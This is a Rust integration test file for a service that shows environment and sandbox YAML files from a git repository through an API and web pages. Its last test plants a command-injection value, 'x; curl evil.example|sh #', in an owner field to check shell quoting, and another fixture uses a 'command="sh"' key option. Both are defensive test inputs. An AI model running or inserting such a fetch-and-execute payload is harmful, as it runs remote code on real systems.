//! Berth against real git repositories: the JSON API and the HTML pages
//! show what the upstream files say, and follow new pushes after a refresh.

mod common;

use common::*;

fn sandbox_file(owner: &str, key: &str) -> String {
    format!("# Sandbox of {owner}.\nowner: {owner}\nsshPublicKeys:\n  - {key}\n")
}

fn seeded() -> Upstream {
    let upstream = Upstream::new();
    upstream.commit(
        "Ann",
        T0,
        "Set up environments",
        &[
            (
                "environments/dev.yaml",
                Some("# Dev\napp-a: \"feature-xxx\"\napp-b: master\n"),
            ),
            ("environments/stg-1.yaml", Some("app-a: main\n")),
            ("environments/stg-2.yaml", Some("# nothing here yet\n")),
            ("sandboxes/kohbis.yaml", Some(&sandbox_file("kohbis", KEY))),
        ],
    );
    upstream
}

#[tokio::test]
async fn api_shows_environments_and_sandboxes_from_the_repository() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;

    let envs = server.json("/api/v1/environments").await;
    let envs = envs["environments"].as_array().unwrap();
    let names: Vec<_> = envs.iter().map(|e| e["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["prod", "stg-1", "stg-2", "dev"]);
    let dev = &envs[3];
    assert_eq!(dev["services"]["app-a"], "feature-xxx");
    assert_eq!(dev["services"]["app-b"], "master");
    assert_eq!(dev["commit"], upstream.head());
    assert_eq!(dev["file"], "environments/dev.yaml");
    assert_eq!(
        envs[0]["services"]["app-b"], "master",
        "prod follows the default branch"
    );
    assert_eq!(envs[2]["services"].as_object().unwrap().len(), 0);

    let sandboxes = server.json("/api/v1/sandboxes").await;
    let kohbis = &sandboxes["sandboxes"][0];
    assert_eq!(kohbis["name"], "kohbis");
    assert_eq!(kohbis["owner"], "kohbis");
    assert_eq!(kohbis["url"], "https://kohbis.sb.example.com");
    assert_eq!(kohbis["ssh"], "ssh kohbis@kohbis.sb.example.com");
    assert_eq!(kohbis["created_by"], "Ann");
    assert_eq!(kohbis["fingerprints"][0], ssh_keygen_lf(KEY, &server));
}

/// What the real `ssh-keygen -lf` prints for a key.
fn ssh_keygen_lf(key: &str, server: &Server) -> String {
    let file = server.data.path().join("key.pub");
    std::fs::write(&file, format!("{key}\n")).unwrap();
    match std::process::Command::new("ssh-keygen")
        .arg("-lf")
        .arg(&file)
        .output()
    {
        Ok(out) if out.status.success() => String::from_utf8_lossy(&out.stdout).trim().to_string(),
        // Without OpenSSH installed, the value it printed when this test was written.
        _ => {
            "256 SHA256:dCH7EbLNVqPyDJ3XrgaIMwdx7zuGFwRFOu8Y2Fm7OsQ kohbis@laptop (ED25519)".into()
        }
    }
}

#[tokio::test]
async fn a_pushed_commit_shows_up_after_a_refresh() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    let (_, first) = server.get("/").await;
    assert!(!first.contains("fix-upload"));
    upstream.commit(
        "Bob",
        T0 + DAY,
        "Point dev app-b at fix-upload",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-xxx\"\napp-b: fix-upload\n"),
        )],
    );

    let before = server.json("/api/v1/environments").await;
    assert_eq!(
        before["environments"][3]["services"]["app-b"], "master",
        "nothing changes before a refresh"
    );

    assert_eq!(server.press_refresh().await, 200);
    let after = server.json("/api/v1/environments").await;
    assert_eq!(after["environments"][3]["services"]["app-b"], "fix-upload");
    assert_eq!(after["environments"][3]["commit"], upstream.head());

    let (_, again) = server.get("/").await;
    assert!(
        again.contains(r#"data-branch="fix-upload""#),
        "a refresh is never hidden by the page cache"
    );
    let (status, html) = server.get("/?highlight=fix-upload").await;
    assert_eq!(status, 200);
    assert!(
        html.contains(r#"data-branch="fix-upload""#),
        "the grid shows the new branch"
    );
    assert!(
        html.contains("cell highlight"),
        "the picked branch is highlighted"
    );
    assert!(html.contains("Bob"), "the cell says who changed it");
}

#[tokio::test]
async fn environment_page_shows_the_history_of_its_file() {
    let upstream = seeded();
    upstream.commit(
        "Bob",
        T0 + DAY,
        "Try the new upload retry",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-yyy\"\napp-b: master\napp-c: main\n"),
        )],
    );
    upstream.commit(
        "Cleo",
        T0 + 2 * DAY,
        "Unrelated readme",
        &[("README.md", Some("hello\n"))],
    );
    upstream.commit(
        "Dan",
        T0 + 3 * DAY,
        "Drop app-c from dev",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-yyy\"\napp-b: master\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;

    let (status, html) = server.get("/env/dev").await;
    assert_eq!(status, 200);
    let newest = html
        .find("removed (was main)")
        .expect("the removal is listed");
    let older = html
        .find("feature-xxx → feature-yyy")
        .expect("the change is listed");
    assert!(newest < older, "newest first");
    assert!(html.contains("Try the new upload retry"));
    assert!(
        !html.contains("Unrelated readme"),
        "commits that did not touch the file are not history"
    );
    assert!(html.contains("Dan") && html.contains("Bob"));
    assert!(
        html.contains("Not deployed here: "),
        "app-c is listed as not deployed"
    );

    // The overview says who last changed each cell.
    let (_, overview) = server.get("/").await;
    assert!(overview.contains("Bob"));
}

#[tokio::test]
async fn bad_files_are_reported_with_file_and_line_and_the_rest_keeps_working() {
    let upstream = seeded();
    upstream.commit(
        "Eve",
        T0 + DAY,
        "Oops",
        &[
            (
                "environments/dev.yaml",
                Some("app-a: main\napp-b: [broken\n"),
            ),
            (
                "environments/stg-1.yaml",
                Some("app-a: main\napp-b: 42\napp-a: other\n"),
            ),
            ("sandboxes/Bad_Name.yaml", Some(&sandbox_file("x", KEY))),
            (
                "sandboxes/eve.yaml",
                Some("owner: eve\nsshPublicKeys:\n  - command=\"sh\" ssh-ed25519 AAAA\n"),
            ),
        ],
    );
    let server = Server::start(&upstream, true).await;

    let envs = server.json("/api/v1/environments").await;
    let dev = &envs["environments"][3];
    assert_eq!(dev["services"].as_object().unwrap().len(), 0);
    assert_eq!(dev["problems"][0]["file"], "environments/dev.yaml");
    assert!(dev["problems"][0]["line"].as_u64().unwrap() >= 2);
    let stg = &envs["environments"][1];
    let lines: Vec<_> = stg["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["line"].as_u64().unwrap())
        .collect();
    assert_eq!(
        lines,
        [2, 3],
        "non-string branch on line 2, duplicate key on line 3"
    );

    let sandboxes = server.json("/api/v1/sandboxes").await;
    let names: Vec<_> = sandboxes["sandboxes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["eve", "kohbis"],
        "the bad name is left out, the bad key is not"
    );
    assert!(sandboxes["sandboxes"][0]["problems"][0]["message"]
        .as_str()
        .unwrap()
        .contains("not allowed"));

    let (status, html) = server.get("/").await;
    assert_eq!(status, 200);
    assert!(html.contains("environments/stg-1.yaml:3"));
    assert!(html.contains("sandboxes/Bad_Name.yaml"));
    assert!(html.contains("sandboxes/eve.yaml:3"));
    assert!(
        html.contains(r#"data-sandbox"#) || html.contains("kohbis"),
        "the good sandbox is still shown"
    );
}

#[tokio::test]
async fn a_force_push_is_reindexed_from_scratch() {
    let upstream = seeded();
    upstream.commit(
        "Mallory",
        T0 + DAY,
        "Point dev app-a at doomed",
        &[(
            "environments/dev.yaml",
            Some("app-a: doomed\napp-b: master\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;
    upstream.drop_last_commit();
    server.read_model().refresh().await;

    let envs = server.json("/api/v1/environments").await;
    assert_eq!(envs["environments"][3]["services"]["app-a"], "feature-xxx");
    let (_, html) = server.get("/env/dev").await;
    assert!(
        !html.contains("doomed"),
        "history of the dropped commit is gone"
    );
}

#[tokio::test]
async fn an_unreachable_repository_keeps_the_last_good_snapshot() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    std::fs::rename(&upstream.bare, upstream.dir.path().join("moved.git")).unwrap();
    server.read_model().refresh().await;

    let envs = server.json("/api/v1/environments").await;
    assert_eq!(envs["environments"][3]["services"]["app-a"], "feature-xxx");
    let (_, html) = server.get("/").await;
    assert!(
        html.contains("refresh failed"),
        "the page says the data is stale"
    );
}

#[tokio::test]
async fn health_and_readiness() {
    let upstream = seeded();
    let server = Server::start(&upstream, false).await;
    assert_eq!(server.get("/healthz").await.0, 200);
    assert_eq!(server.get("/readyz").await.0, 503);
    let (status, body) = server.get("/api/v1/environments").await;
    assert_eq!(status, 503);
    assert!(serde_json::from_str::<serde_json::Value>(&body).unwrap()["error"].is_string());
    server.read_model().refresh().await;
    assert_eq!(server.get("/readyz").await.0, 200);
}

#[tokio::test]
async fn unknown_things_get_clear_answers() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    let (status, body) = server.get("/api/v1/nope").await;
    assert_eq!(status, 404);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["error"],
        "no such API route"
    );
    let (status, html) = server.get("/env/qa").await;
    assert_eq!(status, 404);
    assert!(html.contains("there is no environment named `qa`"));
    let (status, _) = server.get("/no/such/page").await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn sandbox_search_matches_name_or_owner() {
    let upstream = seeded();
    upstream.commit(
        "Ann",
        T0 + DAY,
        "Create sandbox ann",
        &[("sandboxes/ann.yaml", Some(&sandbox_file("ann", KEY)))],
    );
    let server = Server::start(&upstream, true).await;
    let all = server.json("/api/v1/sandboxes").await;
    assert_eq!(all["total"], 2);
    let found = server.json("/api/v1/sandboxes?q=KOH").await;
    assert_eq!(found["sandboxes"].as_array().unwrap().len(), 1);
    let (status, html) = server.get("/sandboxes/ann").await;
    assert_eq!(status, 200);
    assert!(html.contains("ssh ann@ann.sb.example.com"));
}

#[tokio::test]
async fn a_key_that_names_no_service_is_shown_as_unknown_not_dropped() {
    let upstream = seeded();
    upstream.commit(
        "Ann",
        T0 + DAY,
        "Add legacy",
        &[(
            "environments/dev.yaml",
            Some("app-a: main\nlegacy-app: old-branch\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;
    let envs = server.json("/api/v1/environments").await;
    let dev = &envs["environments"][3];
    assert_eq!(dev["unknown_services"][0], "legacy-app");
    assert_eq!(dev["services"]["legacy-app"], "old-branch");
    let (_, html) = server.get("/env/dev").await;
    assert!(html.contains("unknown service"));
    let (_, overview) = server.get("/").await;
    assert!(overview.contains("unknown services: legacy-app"));
}

#[tokio::test]
async fn a_hand_written_owner_cannot_inject_into_the_ssh_command() {
    let upstream = Upstream::new();
    let owner = "x; curl evil.example|sh #";
    let text = format!("owner: \"{owner}\"\nsshPublicKeys:\n  - {KEY}\n");
    upstream.commit(
        "Eve",
        T0,
        "sandbox by hand",
        &[("sandboxes/eve.yaml", Some(&text))],
    );
    let server = Server::start(&upstream, true).await;
    let api = server.json("/api/v1/sandboxes").await;
    let sandbox = &api["sandboxes"][0];
    assert_eq!(sandbox["owner"], owner);
    assert_eq!(
        sandbox["ssh"], "ssh 'x; curl evil.example|sh #'@eve.sb.example.com",
        "the owner is one quoted shell word"
    );
}
